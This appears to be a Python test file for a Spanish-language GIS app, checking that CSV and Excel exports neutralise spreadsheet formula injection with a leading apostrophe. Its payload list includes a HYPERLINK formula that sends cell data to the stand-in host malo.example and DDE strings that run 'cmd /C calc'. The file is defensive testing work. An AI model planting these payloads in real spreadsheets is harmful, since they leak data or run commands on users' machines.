"""Formula injection in the spreadsheet exports: a text cell starting with ``= + - @`` (or a
tab, a carriage return) reaches CSV and Excel behind an apostrophe whatever the column's
dtype (object, pandas text, categorical, lists), while numbers, negative ones included,
stay numbers. GeoPackage and Parquet are not opened by spreadsheets: they keep the text.

The checkers here (:func:`csv_formulas`, :func:`xlsx_formulas`) are also used by the API
tests on every download (portfolio and analyses)."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path
from typing import Any

import geopandas as gpd
import openpyxl
import pandas as pd
import pytest
import shapely

from gis.analysis.exports import escape_cell, export
from gis.portfolio.exporter import save_workbook, workbook
from gis.portfolio.sheets import escape, unescape

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = [
    '=HYPERLINK("http://malo.example/?d="&A1,"clic")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]
"""One payload per character that makes a spreadsheet read a cell as a formula."""
PLAIN_NUMBER = re.compile(r"-?\d+(\.\d+)?([eE][-+]?\d+)?")


def csv_formulas(text: str) -> list[str]:
    """The cells of a CSV text a spreadsheet would run as formulas (numbers are fine).

    ``text`` must keep its line ends as written (no newline translation): an unquoted
    carriage return inside a cell starts a new row, whose first cell counts here."""
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row
            if cell.startswith(FORMULA_START) and not PLAIN_NUMBER.fullmatch(cell)]


def csv_text(content: bytes) -> str:
    """A CSV file's text (UTF-8, with or without BOM) with its line ends untouched."""
    return content.decode("utf-8-sig")


def xlsx_formulas(source: Path | bytes) -> list[str]:
    """The cells of an Excel file stored as formulas, or as text a spreadsheet would turn
    into one when edited (every sheet)."""
    wb = openpyxl.load_workbook(io.BytesIO(source) if isinstance(source, bytes) else source)
    return [f"{ws.title}!{cell.coordinate}={cell.value!r}" for ws in wb.worksheets
            for row in ws.iter_rows() for cell in row
            if cell.data_type == "f" or (isinstance(cell.value, str)
                                         and cell.value.startswith(FORMULA_START))]


def hostile_frame() -> gpd.GeoDataFrame:
    """An analysis-like result: every text dtype holding the payloads, negative numbers,
    booleans, dates, missing values and a geometry."""
    n = len(HOSTILE)
    return gpd.GeoDataFrame({
        "objeto": pd.Series(HOSTILE, dtype=object),
        "texto": pd.Series(HOSTILE, dtype="str"),
        "texto_nulable": pd.Series([*HOSTILE[:-1], None], dtype="string"),
        "categoria": pd.Categorical(HOSTILE),
        "lista": [[h, "residencial"] for h in HOSTILE],
        "diferencia_m2": [-1520.75] * n,
        "cambio_viviendas": pd.Series([-3] * n, dtype="int64"),
        "cumple": [True, False] * 3 + [True],
        "fecha": pd.to_datetime(["2025-03-01"] * n),
    }, geometry=[shapely.Point(260_000 + i, 6_280_000) for i in range(n)], crs=32719)


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_analysis_export_escapes_every_text_dtype_and_keeps_numbers(tmp_path: Path,
                                                                    suffix: str) -> None:
    frame = hostile_frame()
    frame.attrs["analisis"] = "cumplimiento"
    path = export(frame, tmp_path / f"resultado{suffix}")
    if suffix == ".csv":
        text = csv_text(path.read_bytes())
        assert csv_formulas(text) == []  # a bare CR once split "'\r=1+1" into a new row
        rows = list(csv.DictReader(io.StringIO(text, newline="")))
        for name in ("objeto", "texto", "categoria"):
            assert [r[name] for r in rows] == ["'" + h for h in HOSTILE]
        assert rows[0]["lista"] == "'" + HOSTILE[0] + "; residencial"
        assert {r["diferencia_m2"] for r in rows} == {"-1520.75"}
        assert {r["cambio_viviendas"] for r in rows} == {"-3"}
        assert rows[0]["geometria_wkt"].startswith("POINT (")
        return
    assert xlsx_formulas(path) == []
    ws = openpyxl.load_workbook(path)["cumplimiento"]
    header = [c.value for c in ws[1]]
    cells = {name: [row[i] for row in ws.iter_rows(min_row=2)] for i, name in
             enumerate(header)}
    for name in ("objeto", "texto", "categoria"):
        assert [c.value for c in cells[name]] == ["'" + h.replace("\r", "\n") for h in HOSTILE]
    assert all(c.data_type == "n" and c.value == -1520.75 for c in cells["diferencia_m2"])
    assert all(c.data_type == "n" and c.value == -3 for c in cells["cambio_viviendas"])
    assert cells["texto_nulable"][-1].value is None


@pytest.mark.parametrize("suffix", [".gpkg", ".parquet"])
def test_spatial_formats_keep_the_text_as_it_is(tmp_path: Path, suffix: str) -> None:
    frame = hostile_frame().drop(columns=["lista", "categoria"])
    path = export(frame, tmp_path / f"resultado{suffix}")
    back = gpd.read_parquet(path) if suffix == ".parquet" else gpd.read_file(path)
    assert list(back["objeto"]) == HOSTILE
    assert set(back["diferencia_m2"]) == {-1520.75}


def test_escaping_is_the_same_everywhere_and_reversible() -> None:
    """The portfolio's and the analyses' escaping agree; the importer undoes it exactly;
    values that are not text (negative numbers first) are never touched."""
    for value in HOSTILE:
        assert escape(value) == escape_cell(value) == "'" + value
        assert unescape(escape(value)) == value
    for other in (-71.6, -3, 0, None, True, "Plaza Llolleo", "'ya escapado", "5 - 3"):
        assert escape(other) == escape_cell(other) == other


def test_portfolio_workbook_escapes_text_and_keeps_negative_numbers(tmp_path: Path) -> None:
    headers = ["Código", "Nombre", "Unidad responsable", "Longitud", "Monto ejecutado ($)"]
    rows: list[dict[str, Any]] = [
        {"Código": f"INY-2026-{i:03d}", "Nombre": h, "Unidad responsable": h,
         "Longitud": -71.6123, "Monto ejecutado ($)": -1_500_000}
        for i, h in enumerate(HOSTILE)]
    path = save_workbook(workbook({"Proyectos": rows}, {"Proyectos": headers}),
                         tmp_path / "cartera.xlsx")
    assert xlsx_formulas(path) == []
    ws = openpyxl.load_workbook(path)["Proyectos"]
    longitudes = [r[3] for r in ws.iter_rows(min_row=2)]
    assert all(c.data_type == "n" and c.value == -71.6123 for c in longitudes)
    assert [r[1].value for r in ws.iter_rows(min_row=2)] == \
        ["'" + h.replace("\r", "\n") for h in HOSTILE]
